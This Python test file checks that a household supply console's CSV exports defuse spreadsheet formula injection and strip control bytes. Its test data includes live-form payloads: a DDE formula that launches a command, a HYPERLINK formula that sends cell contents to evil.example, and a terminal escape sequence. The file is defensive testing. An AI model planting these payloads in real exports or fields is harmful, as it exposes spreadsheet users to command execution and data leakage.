"""CSV files for Excel: no cell runs as a formula, numbers stay numbers, no control byte is written."""

from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from console.sheets.spreadsheet import SpreadsheetWriter
from db.safe_text import CONTROLS, FORMULA_STARTS, shown, spreadsheet_cell
from tests.hostile_post import edit_as_another_tool
from tests.test_passes_cli import cli_post, run  # noqa: F401  (cli_post is a fixture)
from tests.test_supply_cli import stocked  # noqa: F401
from tests.test_supply_export import deliver_one, read_back

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "@SUM(A1)",
    "-2+3",
    "+1",
    "\t=1+1",
    "\r=1+1",
]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def written(rows: list[list[object]]) -> str:
    out = io.StringIO()
    SpreadsheetWriter(out).writerows(rows)
    return out.getvalue()


def test_a_formula_gets_a_leading_quote_and_a_number_stays_a_number():
    assert [spreadsheet_cell(text) for text in FORMULAS[:4]] == [
        "'=cmd|' /C calc'!A0",
        '\'=HYPERLINK("http://evil.example/?"&A1,"点这里")',
        "'@SUM(A1)",
        "'-2+3",
    ]
    assert spreadsheet_cell("\t=1+1") == "'␉=1+1" and spreadsheet_cell("\r=1+1") == "'␍=1+1"
    assert spreadsheet_cell(-2) == -2 and spreadsheet_cell(3.5) == 3.5 and spreadsheet_cell(None) == ""
    assert spreadsheet_cell("-2") == "'-2"  # text that looks like a number is still text from the data
    assert spreadsheet_cell("\x1b[31m大米\x07") == "␛[31m大米␇" and spreadsheet_cell("张三") == "张三"
    assert written([[-2, "-2+3", "a,b", 'say "hi"']]) == '-2,\'-2+3,"a,b","say ""hi"""\r\n'


@settings(max_examples=400, deadline=None)
@given(
    st.lists(
        st.one_of(st.text(), st.integers(), st.floats(allow_nan=False, allow_infinity=False)),
        min_size=1,
        max_size=6,
    )
)
def test_any_cell_reads_back_as_one_safe_cell(cells):
    text = written([cells])
    assert not set(text[:-2]) & CONTROLS  # the row's own CRLF is the only control written
    (row,) = list(csv.reader(io.StringIO(text, newline="")))
    assert len(row) == len(cells)
    for cell, original in zip(row, cells):
        if isinstance(original, str):
            assert not cell.startswith(FORMULA_STARTS)
            expected = ("'" if original.startswith(FORMULA_STARTS) else "") + shown(original)
            assert cell == expected
        else:
            assert cell == str(original)  # unquoted, as the number it is


def test_supply_exports_neutralise_formulas_and_keep_negative_numbers(stocked, db_path, capsys, tmp_path):
    deliver_one(capsys, stocked)
    edit_as_another_tool(
        db_path,
        [
            ("UPDATE supply_order SET note = ?", (FORMULAS[0],)),
            ("UPDATE supply_item SET name = ? WHERE name = '大米'", (FORMULAS[1],)),
            ("UPDATE household SET head_name = ?", (FORMULAS[2],)),
            ("UPDATE handoff SET party = ? WHERE party = '张阿姨'", (FORMULAS[3],)),
            ("UPDATE handoff SET reason = ? WHERE reason = ''", ("\x1b]0;pwned\x07\x9b31m\u202e",)),
        ],
    )
    for kind in ("handoffs", "orders", "stock"):
        out = tmp_path / f"{kind}.csv"
        assert run(capsys, "export", kind, "--out", str(out), "--db", stocked["db"])[0] == 0
        raw = out.read_bytes().decode("utf-8-sig")
        assert not set(raw.replace("\r\n", "")) & CONTROLS, kind
        rows = read_back(out)
        assert all(not cell.startswith(FORMULA_STARTS) or is_number(cell) for row in rows for cell in row), (
            kind
        )
        if kind == "handoffs":
            header = rows[0]
            deltas = [row[header.index("库存变动")] for row in rows[1:]]
            assert "-10" in deltas and ",-10," in raw  # a real negative number, unquoted
            assert "'-2+3" in [row[header.index("签收人/来源")] for row in rows[1:]]
        if kind == "orders":
            record = dict(zip(*rows[:2]))
            assert record["备注"] == "'" + FORMULAS[0] and record["户主"] == "'" + FORMULAS[2]
        if kind == "stock":
            assert "'" + FORMULAS[1] in [row[0] for row in rows]
